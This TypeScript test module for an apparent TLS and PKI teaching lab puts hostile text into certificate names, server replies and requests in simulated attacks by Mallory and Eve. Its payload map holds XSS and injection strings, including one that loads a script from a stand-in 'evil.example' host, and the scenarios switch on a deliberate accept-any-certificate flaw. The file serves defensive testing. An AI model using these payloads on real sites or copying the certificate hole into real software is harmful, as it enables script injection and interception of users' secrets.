/**
 * Made-up stories in which everybody who can name something names it to do harm. They are in no
 * list: tests put them there for a moment.
 */
import { impersonate, listener } from "../../../lab/attacks/mod.ts";
import { http, httpResponse, type Stage } from "../../../lab/cast/mod.ts";
import type { Bytes } from "../../../lab/bytes/mod.ts";
import { EVIL } from "../../../lab/cli/testing.ts";
import { acceptAnyCertificate } from "../../../lab/flaws/mod.ts";
import { distinguishedName, type IssueOptions, makeExtension, OIDS } from "../../../lab/pki/mod.ts";
import { scenario } from "../../../lab/scenario/mod.ts";

/** The terminal's evil set, and what only a browser falls for. */
export const EVIL_FOR_PAGES: Readonly<Record<string, string>> = {
  ...EVIL,
  "an image that fails": '<img src=x onerror="alert(1)">',
  "the end of an attribute": '"><svg onload=alert(1)>',
  "the end of an attribute, single": "' onmouseover='alert(1)",
  "an address that is a program": "javascript:alert(document.domain)",
  "the end of the data block": '</script><script src="//evil.example/x.js"></script><!--',
  "a style": '</style><style>*{display:none}</style>" style="position:fixed;inset:0',
  "a reference": "&lt;b&gt;&#x202e;&copy &amp",
  "a template": "${alert(1)}{{7*7}}%3Cscript%3E\\u003cscript\\u003e",
  "a look-alike": "pаypаl.example xn--pypl-53dc.example",
};

/** A story with the same evil text in every place that takes text. Runs are remembered by its id. */
export function infested(id: string, evil: string) {
  return scenario({
    id,
    // What authors write is theirs; this is about what peers and certificates say.
    title: "Names that mean harm",
    level: "deeper",
    about: "hostile text",
    summary: "Everybody has a name that means harm.",
    moral: "A name is a text",
    sources: ["none"],
    defences: { check: "Alice looks" },
    stage: (world, on) => cast(world, evil, on.check),
    story({ alice, shop, mallory, eve, secret, fakes }, act) {
      act(evil, () => mallory.play(impersonate(() => fakes)));
      act(`Eve listens ${evil}`, () => eve.play(listener().listen));
      mallory.note(evil);
      const session = act(`${evil}${evil}`, () => alice.connect(shop));
      act("Alice speaks", () => session.send(`${secret} ${evil}`));
      act("Alice asks", () => session.send(`GET /${evil} HTTP/1.1\r\n\r\n`));
      act("Alice goes on", () => session.close());
      act("And never", () => session.send(evil));
    },
    wins: ({ mallory, secret, shop }) => mallory.knows(secret) && (shop.did(/hears/), true),
    because: () => evil,
    matrix: [
      { with: [], attack: "succeeds", because: evil },
      { with: ["check"], attack: "fails", because: evil },
    ],
  });
}

function cast(world: Stage, evil: string, checks: boolean) {
  const root = world.authority(`${evil} Root`);
  // The name that Alice asks for is evil too: it goes out in her hello.
  const identity = { ...root.issue("shop.example", certificateOf(evil)), subject: evil };
  const shop = world.server(`shop ${evil}`, {
    identity,
    app: http((request, { effect }) => {
      effect(`hears ${request}`);
      return httpResponse(`200 ${evil}`, evil);
    }),
  });
  const alice = world.client(`alice ${evil}`, {
    trust: [root],
    flaws: checks ? [] : [acceptAnyCertificate],
  });
  const road = world.link(`road ${evil}`, alice, shop);
  const eve = world.eavesdropper(`eve ${evil}`, { on: road });
  const mallory = world.attacker(`mallory ${evil}`, { on: road });
  const fakes = world.authority(`fake ${evil}`).issue("shop.example", certificateOf(evil));
  return { alice, shop, mallory, eve, fakes, secret: alice.types(`secret ${evil}`, "4711 0815") };
}

/** A certificate whose every name is evil, as far as its types let it. */
function certificateOf(evil: string) {
  // Names of hosts and addresses are ASCII by type (RFC 5280 §4.2.1.6).
  const ascii = [...evil].map((character) => character <= "\u007f" ? character : "?").join("");
  const at = (value: string) => ({
    accessMethod: OIDS.ocsp,
    accessLocation: { type: "uniformResourceIdentifier" as const, value },
  });
  return {
    names: ["shop.example", ascii],
    subject: distinguishedName(["commonName", evil], ["organizationName", evil]),
    extensions: [makeExtension("authorityInfoAccess", [at("javascript:alert(1)"), at(ascii)])],
  };
}

/** What a story about one certificate shows. */
export interface Shown {
  readonly issue: IssueOptions;
  /** Changes the octets of the certificate, which nobody signs again. */
  readonly change?: (der: Bytes) => Bytes;
}

/** A story about one certificate: Alice is shown it, and looks unless she is told not to. */
export function shown(id: string, { issue, change = (der) => der }: Shown) {
  return scenario({
    id,
    title: "A certificate",
    level: "deeper",
    about: "hostile text",
    summary: "Alice is shown a certificate.",
    moral: "A certificate is a text",
    sources: ["none"],
    defences: { check: "Alice looks" },
    stage(world, on) {
      const root = world.authority("Root");
      const issued = root.issue("x.example", issue);
      const chain = issued.chain.map(change);
      const bank = world.server("bank", {
        identity: { ...issued, chain, subject: "bank.example" },
      });
      const flaws = on.check ? [] : [acceptAnyCertificate];
      const alice = world.client("alice", { trust: [root], flaws });
      world.link("road", alice, bank);
      return { alice, bank };
    },
    story: ({ alice, bank }, act) => void act("Alice looks", () => alice.connect(bank)),
    wins: () => false,
    matrix: [{ with: [], attack: "fails" }, { with: ["check"], attack: "fails" }],
  });
}
